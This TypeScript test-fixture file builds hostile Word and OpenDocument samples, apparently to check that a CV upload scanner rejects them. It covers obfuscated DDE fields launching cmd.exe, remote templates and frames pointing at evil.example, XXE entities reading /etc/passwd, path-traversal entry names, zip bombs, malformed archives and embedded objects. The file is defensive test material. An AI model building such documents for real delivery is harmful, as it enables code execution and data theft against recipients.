import { docx, docxParts, MIME_TYPE_PART, odt, type Relationship, xlsx } from '../makers/office.ts';
import { ole } from '../makers/ole.ts';
import { type ZipEntry, zip } from '../makers/zip.ts';
import { HTML, latin1, PROGRAM, type Sample } from '../sample.ts';

const object = ole([{ name: '\x01Ole10Native', data: PROGRAM }]);
const nothing = Buffer.alloc(0);
const utf16 = (text: string): Buffer => Buffer.from(`\ufeff${text}`, 'utf16le');
const blank = Buffer.alloc(30_000_000);
const ENTITIES = '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>';

const word = (title: string, bytes: Buffer, code: Sample['code'] = 'fileUnsafe'): Sample => ({
  title: `docx ${title}`,
  name: 'cv.docx',
  bytes,
  code,
});
const text = (title: string, bytes: Buffer, code: Sample['code'] = 'fileUnsafe'): Sample => ({
  title: `odt ${title}`,
  name: 'cv.odt',
  bytes,
  code,
});
const withPart = (name: string, data: ZipEntry['data'] = 'x'): Buffer => docx({ parts: [{ name, data }] });
const withLink = (type: string, target: string): Buffer =>
  docx({ links: [{ type, target, external: true } satisfies Relationship] });
const field = (...pieces: string[]): string =>
  `<w:r><w:fldChar w:fldCharType="begin"/></w:r>${pieces.map((piece) => `<w:r><w:instrText>${piece}</w:instrText></w:r>`).join('')}<w:r><w:fldChar w:fldCharType="end"/></w:r>`;

/** A field with a cached result. Its parts are marks, texts of instructions, and other fields. */
const instr = (text: string): string => `<w:r><w:instrText xml:space="preserve">${text}</w:instrText></w:r>`;
const nesting = (...parts: string[]): string =>
  `<w:r><w:fldChar w:fldCharType="begin"/></w:r>${parts.join('')}<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>Curriculum</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>`;
const quoted = (text: string): string => [...text].map((letter) => letter.charCodeAt(0)).join(' ');

/** Fields whose kind or address is the result of a field in them, or that are written in another way than Word does. */
const HOSTILE_FIELDS: readonly Sample[] = (
  [
    ['a field in it names the program’s field', nesting(nesting(instr(` QUOTE ${quoted('DDE')} `)), instr(' cmd /c'))],
    ['a field in it ends the word', nesting(instr(' DDEAU'), nesting(instr(' QUOTE "TO" ')), instr(' excel a b '))],
    ['a field in it begins behind the word', nesting(instr('DDEAUTO'), nesting(instr(' QUOTE " c:\\cmd" ')))],
    ['a simple field in it names it', nesting('<w:fldSimple w:instr=" QUOTE 76 73 78 75 "/>', instr(' Excel.Sheet '))],
    ['a field in it has the address', nesting(instr(' INCLUDETEXT '), nesting(instr(' QUOTE "http://a.example/b" ')))],
    ['a field in it spells the address', nesting(instr(' IMPORT "'), nesting(instr(` QUOTE ${quoted('ftp://a')} `)))],
    ['a condition contains it', nesting(instr(' IF 1 = 1 '), nesting(instr(' DDE cmd a ')))],
    [
      'it follows a field in the same condition',
      nesting(instr(' IF '), nesting(instr(' PAGE ')), nesting(instr(' DDE a '))),
    ],
    ['it is in the result of another', nesting(instr(' REF a ')).replace('<w:t>', `${field(' DDE b ')}<w:t>`)],
    ['its words are apart by a tabulator', field('DDEAUTO</w:instrText><w:tab/><w:instrText>cmd')],
    ['its word is apart from nothing', field('DDEAUTO"cmd" "/c"')],
    ['its letters are in lines of their own', field('DD', 'EAUTO cmd').replaceAll('</w:r>', '\n  </w:r>\n')],
    ['it has its old name', field(' INCLUDE "https://a.example/b" ')],
  ] as const
).map(([title, body]) => word(`with a field: ${title}`, docx({ body })));

/** The archive declares one entry fewer than it has. */
function uncounted(): Buffer {
  const bytes = withPart('word/vbaProject.bin');
  const end = bytes.lastIndexOf('PK\x05\x06');
  for (const at of [8, 10]) bytes.writeUInt16LE(bytes.readUInt16LE(end + at) - 1, end + at);
  return bytes;
}

const oneFile = zip([{ name: 'word/vbaProject.bin', data: 'x' }]).subarray(0, 50);

/** The central directory omits an entry that lies between two others. */
function unlisted(): Buffer {
  const bytes = docx({
    parts: [
      { name: 'word/vbaProject.bin', data: 'x' },
      { name: 'word/a.xml', data: '<a/>' },
    ],
  });
  const end = bytes.lastIndexOf('PK\x05\x06');
  const first = bytes.lastIndexOf('word/vbaProject.bin') - 46;
  const next = bytes.lastIndexOf('word/a.xml') - 46;
  const rest = Buffer.concat([bytes.subarray(0, first), bytes.subarray(next)]);
  const at = end - (next - first);
  for (const count of [8, 10]) rest.writeUInt16LE(rest.readUInt16LE(at + count) - 1, at + count);
  rest.writeUInt32LE(rest.readUInt32LE(at + 12) - (next - first), at + 12);
  return rest;
}

function renamed(): Buffer {
  const bytes = withPart('word/vbaProject.bin');
  bytes.write('word/styles.xml.old', bytes.lastIndexOf('word/vbaProject.bin'));
  return bytes;
}

function resized(): Buffer {
  const bytes = withPart('word/a.xml', '<a/>');
  bytes.writeUInt32LE(4_000, bytes.indexOf('word/a.xml') - 8);
  return bytes;
}

const withLinked = (type: string, name: string, data: string): Buffer =>
  docx({ links: [{ type, target: name }], parts: [{ name: `word/${name}`, data }] });

const many = Array.from({ length: 65_000 }, (_, index) => ({
  name: `word/media/${index}.xml`,
  data: nothing,
  stored: true,
}));
const wide = Array.from({ length: 4 }, (_, index) => ({
  name: `word/media/${index}.bin`,
  data: blank,
}));

const HOSTILE_DOCX: readonly Sample[] = [
  word('with macros', withPart('word/vbaProject.bin', ole([{ name: 'VBA', children: [] }]))),
  word('with macros under another name', withPart('word/media/image2.bin', ole([{ name: 'VBA', children: [] }]))),
  word(
    'that says it has macros',
    docx({ types: '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>' }),
  ),
  word('with a template from elsewhere', withLink('attachedTemplate', 'https://evil.example/t.dotm')),
  word('with a template from a shared disk', withLink('attachedTemplate', 'file:///\\\\evil.example\\share\\t.dotm')),
  word('with a picture from elsewhere', withLink('image', 'https://evil.example/pixel.png')),
  word('with a frame from elsewhere', withLink('frame', 'https://evil.example/')),
  word('with an object on the disk', withLink('oleObject', 'file:///C:\\Windows\\System32\\calc.exe')),
  word(
    'with a link in escaped letters',
    docx({
      parts: [
        {
          name: 'word/_rels/settings.xml.rels',
          data: '<Relationships><Relationship Id="a" Type="x/attachedTemplate" Target=\'http://a>b\' TargetMode="&#69;xternal"/></Relationships>',
        },
      ],
    }),
  ),
  word(
    'with a link in UTF-16',
    docx({
      parts: [
        {
          name: 'word/_rels/settings.xml.rels',
          data: utf16('<Relationship Type="x/frame" TargetMode="External" Target="http://a"/>'),
        },
      ],
    }),
  ),
  word('with a part that it calls macros', docx({ links: [{ type: 'vbaProject', target: 'media/image1.png' }] })),
  word('with an embedded object', withPart('word/embeddings/oleObject1.bin', object)),
  word('with an embedded object under another name', withPart('word/media/image2.emf', object)),
  word('with an embedded program', withPart('word/media/image2.png', PROGRAM)),
  word('with a zip in it', withPart('word/media/a.zip', zip([{ name: 'a', data: 'a' }]))),
  word(
    'with a chart whose workbook has macros',
    withPart('word/embeddings/a.xlsx', xlsx([{ name: 'xl/vbaProject.bin', data: 'x' }])),
  ),
  word('with a control', withPart('word/activeX/activeX1.xml', '<a/>')),
  word('with RTF in it', withPart('word/afchunk.rtf', '{\\rtf1}')),
  word('with a field that starts a program', docx({ body: field('DD', 'EAUTO c:\\windows\\cmd.exe') })),
  word('with a simple field that starts a program', docx({ body: '<w:fldSimple w:instr=" DDE cmd x"/>' })),
  word('with two names for a part', docx({ parts: [{ name: 'word/a.bin', otherName: 'word/vba.bin', data: 'x' }] })),
  word('with a part that is not counted', uncounted(), 'fileDamaged'),
  word('with a part that is not listed', unlisted(), 'fileDamaged'),
  word('with a part before the first that is listed', Buffer.concat([oneFile, docx()]), 'fileDamaged'),
  word('with a part that has another name at its place', renamed(), 'fileDamaged'),
  word('with a part that has another size at its place', resized(), 'fileDamaged'),
  word('with a second list', docx({ comment: zip([{ name: 'word/vbaProject.bin', data: 'x' }]) }), 'fileDamaged'),
  word('with a page that it takes in', withLinked('aFChunk', 'afchunk.htm', HTML)),
  word('with a page that it takes in under the name of XML', withLinked('aFChunk', 'a.xml', '<a/>')),
  word('with a mail page that it takes in', withLinked('aFChunk', 'afchunk.mht', 'MIME-Version: 1.0\n\n<p>a')),
  word('with a page that nothing names', withPart('word/a.dat', HTML)),
  word('with data of a mail merge from elsewhere', withLink('mailMergeSource', 'https://evil.example/a.csv')),
  word('with a part of it elsewhere', withLink('subDocument', 'https://evil.example/a.docx')),
  word(
    'with an address that it says is inside',
    docx({ links: [{ type: 'image', target: 'https://evil.example/a' }] }),
  ),
  word(
    'with a picture of old Word from elsewhere',
    docx({ body: '<v:imagedata xmlns:v="v" src="http://a.example/a"/>' }),
  ),
  word(
    'with a text that a field takes in from elsewhere',
    docx({ body: field('INCLUDE', 'TEXT "https://a.example/b"') }),
  ),
  word('with data from a shared disk', docx({ body: field('LINK Excel.Sheet.12 "\\\\\\\\a.example\\\\b.xlsx"') })),
  word('with a picture that has a script', withPart('word/media/a.svg', '<svg><script>a()</script></svg>')),
  word(
    'with an embedded document that has macros',
    withPart('word/embeddings/a.docx', withPart('word/vbaProject.bin')),
  ),
  word('with entities', withPart('customXml/item1.xml', ENTITIES)),
  word('with entities in UTF-16', withPart('customXml/item1.bin', utf16(ENTITIES))),
  word(
    'with a part in an unknown encoding',
    withPart('customXml/item1.xml', '<?xml version="1.0" encoding="UTF-7"?><a/>'),
    'fileDamaged',
  ),
  word('with a way out of its folder', withPart('../../evil.xml')),
  word('with an absolute name', withPart('/etc/cron.d/evil')),
  word('that unpacks to 120 MB in all', docx({ parts: wide })),
  word(
    'whose part is bigger than it says',
    docx({ parts: [{ name: 'a.xml', data: blank.subarray(0, 5_000_000), claims: 10 }] }),
    'fileDamaged',
  ),
  word('of 65,000 entries', docx({ parts: many })),
  word('with a password on a part', docx({ parts: [{ name: 'word/a.xml', data: 'x', flags: 1 }] }), 'fileProtected'),
  word('with a password', ole([{ name: 'EncryptedPackage', data: nothing }]), 'fileProtected'),
  word('with two parts of one name', withPart('word/document.xml', '<a/>'), 'fileDamaged'),
  word('without its end', docx().subarray(0, -40), 'fileDamaged'),
  word('without a text', zip(docxParts().filter(({ name }) => name !== 'word/document.xml')), 'fileContent'),
  word('that is any zip', zip([{ name: 'a.txt', data: 'a' }]), 'fileContent'),
];

const withOdtPart = (name: string, data: ZipEntry['data']): Buffer => odt({ parts: [{ name, data }] });

const HOSTILE_ODT: readonly Sample[] = [
  text('with macros', withOdtPart('Basic/Standard/Module1.xml', '<a/>')),
  text('with scripts', withOdtPart('Scripts/python/a.py', 'print(1)')),
  text(
    'that calls a macro',
    odt({ body: '<script:event-listener xlink:href="vnd.sun.star.script:a.py$b?language=Python"/>' }),
  ),
  text('that calls a macro in escaped letters', odt({ body: '<text:a xlink:href="vnd.sun.star.&#x73;cript:a"/>' })),
  text('with an object of another program', withOdtPart('Object 1', object)),
  text('with a place for such an object', odt({ body: '<draw:object-ole xlink:href="./Object 1"/>' })),
  text('with a frame', odt({ body: '<draw:floating-frame xlink:href="http://evil.example"/>' })),
  text('with a picture from elsewhere', odt({ body: '<draw:image xlink:href="http://evil.example/a.png"/>' })),
  text('with data of another program', odt({ body: '<office:dde-source office:dde-application="cmd"/>' })),
  text('with entities', withOdtPart('Object 1/content.xml', ENTITIES)),
  text('with a password', odt({ manifestEntry: '<manifest:encryption-data/>', body: '' }), 'fileProtected'),
  text(
    'that says it is another kind',
    zip([
      { ...MIME_TYPE_PART, data: 'application/vnd.oasis.opendocument.spreadsheet' },
      { name: 'content.xml', data: '<a/>' },
    ]),
    'fileContent',
  ),
  text('without a text', zip([MIME_TYPE_PART]), 'fileContent'),
  text('that is plain text', latin1('Bonjour'), 'fileContent'),
];

export const HOSTILE_OFFICE: readonly Sample[] = [...HOSTILE_DOCX, ...HOSTILE_FIELDS, ...HOSTILE_ODT];
